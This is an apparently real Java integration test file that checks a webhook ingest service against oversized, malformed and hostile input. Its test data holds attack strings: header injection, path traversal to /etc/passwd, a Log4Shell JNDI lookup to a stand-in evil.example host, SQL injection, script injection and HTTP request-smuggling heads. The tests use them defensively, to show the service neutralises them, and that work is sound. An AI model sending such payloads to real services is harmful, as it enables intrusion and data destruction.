package dev.muster.ingest.webhook;

import static dev.muster.ingest.fixtures.Events.array;
import static dev.muster.ingest.fixtures.Events.cloudEvent;
import static dev.muster.ingest.fixtures.Events.eventGrid;
import static dev.muster.ingest.fixtures.Events.validation;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.muster.contract.Topics;
import dev.muster.ingest.fixtures.Answer;
import dev.muster.ingest.fixtures.Events;
import dev.muster.ingest.fixtures.RawHttp;
import dev.muster.ingest.fixtures.RunningIngest;
import dev.muster.ingest.fixtures.Shared;
import dev.muster.ingest.fixtures.TopicTail;
import java.io.ByteArrayOutputStream;
import java.nio.file.Path;
import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Row 23 of `event-grid-contract.md` section 5 and input that was made to break something, against the running
/// service: nothing but the limits is ever answered 400, and no neighbour is lost.
class BadInputIT {

    private final RunningIngest ingest = RunningIngest.shared();
    private TopicTail hints;

    @BeforeEach
    void watchTheHints() {
        hints = TopicTail.of(Topics.RESOURCE_CHANGED);
    }

    @AfterEach
    void closeTail() {
        hints.close();
    }

    static Stream<Limit> limits() {
        return Stream.of(
                new Limit("depth", 200, n -> "[".repeat(n) + "]".repeat(n)),
                new Limit("number", 1_000, n -> "[" + "1".repeat(n) + "]"),
                new Limit("name", 4_096, n -> "{\"" + "n".repeat(n) + "\":1}"),
                // array: two tokens and one per element; elements of an array inside an element are not deliveries
                new Limit("tokens", 1_000_000, n -> "[[" + "1,".repeat(n - 5) + "1]]"),
                new Limit("document", 4 * 1024 * 1024, n -> "\"" + "x".repeat(n - 2) + "\""));
    }

    @ParameterizedTest
    @MethodSource("limits")
    void beyondALimitIsRefusedAndUpToItIsTaken(Limit limit) {
        assertThat(ingest.post(limit.body(limit.most())).status()).isEqualTo(202);
        assertThat(ingest.post(limit.body(limit.most() + 1)).status()).isIn(400, 413);
    }

    @Test
    void oneLegalEventMayBeOneHugeText() {
        Events huge = eventGrid("huge").withData("responseBody", "x".repeat(1024 * 1024));

        assertThat(ingest.post(array(huge)).status()).isEqualTo(202);
        assertThat(hints.read()).hasSize(1);
    }

    @Test
    void ofNamesThatComeTwiceTheLastCounts() {
        String twice = eventGrid("first").json().replace("\"id\":", "\"id\":\"zeroth\",\"id\":");

        assertThat(ingest.post("[" + twice + "]").status()).isEqualTo(202);
        assertThat(hints.read()).extracting(it -> it.header("ce_id")).containsExactly("first");
    }

    @ParameterizedTest
    @ValueSource(ints = {0x80, 0xC0, 0xFE, 0xFF, 0xED})
    void bytesThatAreNoUtf8CostNoNeighbour(int bad) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(("[" + eventGrid("good").json() + ",").getBytes(UTF_8));
        body.writeBytes(eventGrid("bad-#").json().replace("#", "\u0001").getBytes(ISO_8859_1));
        body.writeBytes("]".getBytes(UTF_8));
        byte[] bytes = body.toByteArray();
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = bytes[i] == 1 ? (byte) bad : bytes[i];
        }

        assertThat(ingest.post(bytes).status()).isEqualTo(202);
        assertThat(hints.read()).extracting(it -> it.header("ce_id")).contains("good");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\r\nSet-Cookie: evil=1",
                "x\nX-Evil: 1",
                "x\u0000",
                "\u0085\u2028evil",
                "../../etc/passwd",
                "${jndi:ldap://evil.example/x}",
                "'; DROP TABLE vm; --",
                "<script>evil</script>"
            })
    void textsThatWouldBreakOutOfSomethingBreakOutOfNothing(String evil) {
        Answer delivered = ingest.post(array(eventGrid(evil), cloudEvent("good").withData("correlationId", evil)));
        Answer handshake = ingest.post(array(validation(evil)), "aeg-event-type", "SubscriptionValidation");

        assertThat(delivered.status()).isEqualTo(202);
        assertThat(handshake.status()).isEqualTo(400);
        assertThat(Stream.of(delivered, handshake))
                .allSatisfy(it ->
                        assertThat(it.headers().map().toString() + it.body()).doesNotContainIgnoringCase("evil"));
        assertThat(hints.read()).extracting(it -> it.header("ce_id")).contains("good");
        assertThat(hints.read())
                .allSatisfy(it -> assertThat(it.headers().values())
                        .allMatch(value -> value.chars().noneMatch(Character::isISOControl)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "POST /eventgrid HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\nTransfer-Encoding: chunked",
                "POST /eventgrid HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\nContent-Length: 3",
                "POST /eventgrid HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1",
                "POST /eventgrid HTTP/1.1\r\nHost: localhost\r\nContent-Length : 2",
                "POST /eventgrid HTTP/1.1\r\nHost: localhost\r\nX-Evil: a\rb",
                "POST /eventgrid HTTP/1.1\r\nHost: a\r\nHost: b",
                "POST /eventgrid HTTP/9.9\r\nHost: localhost",
                "POST /eventgrid\u0001 HTTP/1.1\r\nHost: localhost",
                "PRI * HTTP/2.0"
            })
    void requestsThatMeanTwoThingsMeanNothing(String head) throws Exception {
        try (RawHttp http = new RawHttp(ingest.port())) {
            String answer = http.send(head + "\r\nx-muster-key: " + RunningIngest.SECRET + "\r\n\r\n"
                            + "[]GET /readyz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                    .endOfInput()
                    .answer();

            assertThat(answer).doesNotContain("UP", RunningIngest.SECRET, "Tomcat", "HTTP/1.1 202");
        }
    }

    @Test
    void aForgedValidationEventIsEchoedToNobody() {
        String forged = array(validation("code-1").with("topic", "*"), eventGrid("good"));

        for (String type : List.of("Notification", "SubscriptionValidation", "")) {
            Answer answer = ingest.post(forged, "aeg-event-type", type);
            assertThat(answer.status()).isEqualTo(202);
            assertThat(answer.body()).isEmpty();
        }
        assertThat(ingest.post(array(validation("code-1")), "aeg-event-type", "Notification")
                        .body())
                .isEmpty();
        assertThat(ingest.post(array(validation("code-1")), "x-muster-key", "wrong")
                        .body())
                .doesNotContain("code-1");
    }

    enum Schema {
        EVENT_GRID,
        CLOUD_EVENTS;

        String form(String event) {
            return this == EVENT_GRID
                    ? event
                    : event.replace("\"eventType\"", "\"type\"")
                            .replace("\"eventTime\"", "\"time\"")
                            .replace("\"topic\"", "\"source\"")
                            .replace("\"dataVersion\":\"2\"", "\"specversion\":\"1.0\"");
        }

        /// An event with a raw JSON value in place of one of its fields.
        String event(String field, String value) {
            return form(eventGrid("hostile")
                            .with(field, "#")
                            .withData(field, "#")
                            .json())
                    .replace("\"#\"", value);
        }
    }

    /// What parsers must accept goes into every field, next to a good event in the same delivery.
    @ParameterizedTest
    @EnumSource(Schema.class)
    void hostileValuesInAnyFieldCostNoNeighbour(Schema schema) {
        List<String> hostile = hostile("y_");
        List<String> fields = List.of("id", "topic", "subject", "eventType", "eventTime", "data", "operationName", "x");
        for (String field : fields) {
            String[] elements = Stream.concat(
                            hostile.stream().map(it -> schema.event(field, it)),
                            Stream.of(schema.form(eventGrid("good-" + field).json())))
                    .toArray(String[]::new);
            assertThat(ingest.post(array(elements)).status()).as(field).isEqualTo(202);
        }
        assertThat(hints.read())
                .extracting(it -> it.header("ce_id"))
                .containsAll(fields.stream().map(it -> "good-" + it).toList());
    }

    /// What parsers may or must refuse is refused as a whole or costs nothing but itself; never an error of ours.
    @ParameterizedTest
    @EnumSource(Schema.class)
    void hostileDocumentsAreNeverAnErrorOfOurs(Schema schema) {
        for (String prefix : List.of("n_", "i_")) {
            for (String value : hostile(prefix)) {
                int alone = ingest.post(value.getBytes(ISO_8859_1)).status();
                int inside = ingest.post(array(schema.event("subject", value))).status();
                assertThat(alone).as(value).isIn(202, 400);
                assertThat(inside).as(value).isIn(202, 400);
            }
        }
    }

    private static List<String> hostile(String prefix) {
        return Shared.files("hostile/json-test-suite").stream()
                .map(Path::toAbsolutePath)
                .filter(it -> it.getFileName().toString().startsWith(prefix))
                .map(it -> new String(Shared.bytes(it), ISO_8859_1))
                .filter(it -> it.length() < 50_000)
                .toList();
    }

    /// A limit of the parser and a body that reaches it.
    record Limit(String name, int most, IntFunction<String> maker) {

        String body(int n) {
            return maker.apply(n);
        }

        @Override
        public String toString() {
            return name;
        }
    }
}
